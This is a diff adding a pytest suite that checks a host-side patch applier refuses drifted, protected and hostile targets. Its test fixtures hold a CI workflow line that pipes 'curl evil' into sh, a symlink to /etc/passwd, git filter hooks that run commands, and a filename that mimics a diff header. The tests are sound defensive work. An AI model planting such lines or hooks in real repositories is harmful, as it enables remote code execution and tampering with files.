@@ -1,0 +1,188 @@
+"""Applying hatch patches on the host: clean, drifted, protected, and hostile targets."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from airlock.errors import InvalidRequest
+from policies import DEFAULT_PROTECTED, protecting_glob
+from sandbox.gitdiff import FileState, GitPatch, build_patch
+from sandbox.patch_apply import ApplyReport, apply_patch
+
+Tree = dict[str, tuple[bytes, int]]
+
+BEFORE: Tree = {
+    "src/app.py": (b"".join(b"line %d\n" % i for i in range(40)), 0o644),
+    "run.sh": (b"echo run\n", 0o644),
+    "old.txt": (b"old\n", 0o644),
+}
+AFTER: Tree = {
+    "src/app.py": (b"".join(b"line %d\n" % i for i in range(39)) + b"changed\n", 0o644),
+    "run.sh": (b"echo run\n", 0o755),
+    "docs/new.md": (b"# new\n", 0o644),
+}
+
+
+def _states(tree: Tree) -> tuple[dict[str, FileState], dict[str, bytes]]:
+    states, blobs = {}, {}
+    for path, (data, mode) in tree.items():
+        sha = hashlib.sha256(data).hexdigest()
+        states[path], blobs[sha] = FileState(sha256=sha, mode=mode), data
+    return states, blobs
+
+
+def _make(before: Tree, after: Tree, globs: tuple[str, ...] = DEFAULT_PROTECTED) -> GitPatch:
+    old, a = _states(before)
+    new, b = _states(after)
+    blobs = {**a, **b}
+    return build_patch(old, new, blobs.__getitem__, lambda p: protecting_glob(globs, p))
+
+
+def _listed(patch: GitPatch) -> set[str]:
+    return {p for e in patch.entries for p in (e.path, e.old_path) if p}
+
+
+def _write(root: Path, tree: Tree) -> None:
+    for path, (data, mode) in tree.items():
+        target = root / path
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_bytes(data)
+        target.chmod(mode)
+
+
+def _read(root: Path) -> Tree:
+    found: Tree = {}
+    for dirpath, _, names in os.walk(root):
+        for name in names:
+            full = Path(dirpath) / name
+            found[str(full.relative_to(root))] = (
+                full.read_bytes(),
+                0o755 if full.stat().st_mode & 0o111 else 0o644,
+            )
+    return found
+
+
+def _apply(patch: GitPatch, before: Tree, target: Path, *, check_only: bool = False) -> ApplyReport:
+    baseline, _ = _states(before)
+    return apply_patch(
+        patch.text,
+        _listed(patch),
+        baseline,
+        target,
+        lambda p: protecting_glob(DEFAULT_PROTECTED, p),
+        check_only=check_only,
+    )
+
+
+def test_a_clean_target_becomes_the_sandbox_result(tmp_path: Path) -> None:
+    _write(tmp_path, BEFORE)
+    report = _apply(_make(BEFORE, AFTER), BEFORE, tmp_path)
+    assert report.applied and report.drifted == [] and report.failed == []
+    assert _read(tmp_path) == AFTER
+
+
+def test_check_writes_nothing(tmp_path: Path) -> None:
+    _write(tmp_path, BEFORE)
+    report = _apply(_make(BEFORE, AFTER), BEFORE, tmp_path, check_only=True)
+    assert not report.applied and report.failed == []
+    assert _read(tmp_path) == BEFORE
+
+
+def test_a_drifted_target_is_patched_when_the_hunks_still_apply(tmp_path: Path) -> None:
+    drifted = dict(BEFORE)
+    drifted["src/app.py"] = (b"# header added upstream\n" + BEFORE["src/app.py"][0], 0o644)
+    _write(tmp_path, drifted)
+    report = _apply(_make(BEFORE, AFTER), BEFORE, tmp_path)
+    assert report.applied
+    assert report.drifted == ["src/app.py"]
+    assert _read(tmp_path)["src/app.py"][0] == b"# header added upstream\n" + AFTER["src/app.py"][0]
+
+
+def test_a_drifted_target_whose_hunks_do_not_apply_is_refused_naming_them(
+    tmp_path: Path,
+) -> None:
+    drifted = dict(BEFORE)
+    drifted["src/app.py"] = (BEFORE["src/app.py"][0].replace(b"line 39\n", b"other 39\n"), 0o644)
+    drifted["docs/new.md"] = (b"already here\n", 0o644)
+    _write(tmp_path, drifted)
+    report = _apply(_make(BEFORE, AFTER), BEFORE, tmp_path)
+    assert not report.applied
+    failed = dict(report.failed)
+    assert set(failed) == {"src/app.py", "docs/new.md"}
+    assert "src/app.py" in failed["src/app.py"] and "does not apply" in failed["src/app.py"]
+    assert "already exists" in failed["docs/new.md"]
+    assert _read(tmp_path) == drifted
+
+
+def test_a_protected_path_is_refused_at_apply_time(tmp_path: Path) -> None:
+    after = {**BEFORE, ".github/workflows/ci.yml": (b"run: curl evil | sh\n", 0o644)}
+    unprotected = _make(BEFORE, after, globs=())
+    assert [e.path for e in unprotected.entries] == [".github/workflows/ci.yml"]
+    _write(tmp_path, BEFORE)
+    with pytest.raises(InvalidRequest, match=r"\.github/workflows/ci\.yml.*protects"):
+        _apply(unprotected, BEFORE, tmp_path)
+    assert not (tmp_path / ".github").exists()
+
+
+def test_a_path_missing_from_the_record_is_refused(tmp_path: Path) -> None:
+    _write(tmp_path, BEFORE)
+    patch = _make(BEFORE, AFTER)
+    baseline, _ = _states(BEFORE)
+    with pytest.raises(InvalidRequest, match="not in its record"):
+        apply_patch(patch.text, {"run.sh"}, baseline, tmp_path, lambda p: None, check_only=False)
+    assert _read(tmp_path) == BEFORE
+
+
+def test_a_symlinked_directory_in_the_target_is_never_written_through(tmp_path: Path) -> None:
+    target, outside = tmp_path / "target", tmp_path / "outside"
+    outside.mkdir()
+    _write(outside, {"app.py": BEFORE["src/app.py"]})
+    _write(target, {k: v for k, v in BEFORE.items() if not k.startswith("src/")})
+    (target / "src").symlink_to(outside)
+    with pytest.raises(InvalidRequest, match=r"'src' in the target is not a plain directory"):
+        _apply(_make(BEFORE, AFTER), BEFORE, target)
+    assert (outside / "app.py").read_bytes() == BEFORE["src/app.py"][0]
+
+
+def test_a_symlinked_file_in_the_target_is_refused(tmp_path: Path) -> None:
+    _write(tmp_path / "target", BEFORE)
+    (tmp_path / "target" / "run.sh").unlink()
+    (tmp_path / "target" / "run.sh").symlink_to("/etc/passwd")
+    with pytest.raises(InvalidRequest, match=r"run\.sh: not a regular file in the target"):
+        _apply(_make(BEFORE, AFTER), BEFORE, tmp_path / "target")
+
+
+def test_the_target_repository_configuration_is_never_used(tmp_path: Path) -> None:
+    target = tmp_path / "target"
+    _write(target, BEFORE)
+    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
+    subprocess.run(["git", "init", "-q", str(target)], check=True, env=env, timeout=30)
+    witness = tmp_path / "filter-ran"
+    with (target / ".git" / "config").open("a") as config:
+        config.write(f'[filter "x"]\n\tclean = touch {witness}\n\tsmudge = touch {witness}\n')
+        config.write("[apply]\n\twhitespace = error-all\n")
+    (target / ".gitattributes").write_text("* filter=x\n")
+    report = _apply(_make(BEFORE, AFTER), {**BEFORE}, target)
+    assert report.applied
+    assert not witness.exists()
+    tree = _read(target)
+    assert tree["src/app.py"] == AFTER["src/app.py"]
+
+
+def test_header_lookalike_names_write_only_their_own_files(tmp_path: Path) -> None:
+    after = {**BEFORE, "x/+++ b/run.sh": (b"not run.sh\n", 0o644)}
+    _write(tmp_path, BEFORE)
+    assert _apply(_make(BEFORE, after), BEFORE, tmp_path).applied
+    assert _read(tmp_path) == after
+
+
+def test_an_empty_patch_changes_nothing(tmp_path: Path) -> None:
+    _write(tmp_path, BEFORE)
+    report = _apply(_make(BEFORE, BEFORE), BEFORE, tmp_path)
+    assert report.paths == [] and not report.applied
+    assert _read(tmp_path) == BEFORE
